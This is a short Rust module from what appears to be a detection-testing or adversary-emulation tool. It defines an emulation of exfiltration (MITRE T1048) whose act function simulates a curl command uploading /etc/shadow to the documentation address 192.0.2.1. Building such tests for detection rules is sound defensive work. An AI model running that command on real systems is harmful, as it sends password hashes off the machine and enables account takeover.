//! Password hashes sent away, by a program that does nothing.

use crate::{
    Emulation,
    stage::{Failure, Stage},
};

pub(crate) const EMULATION: Emulation = Emulation {
    id: "file-upload",
    title: "File of the system uploaded",
    technique: "T1048",
    technique_v18: None,
    needs: &[],
    rules: &["File of the system uploaded by a plain tool"],
    act,
};

fn act(stage: &Stage) -> Result<(), Failure> {
    stage.pretend("curl", &["-F", "f=@/etc/shadow", "http://192.0.2.1/"])
}
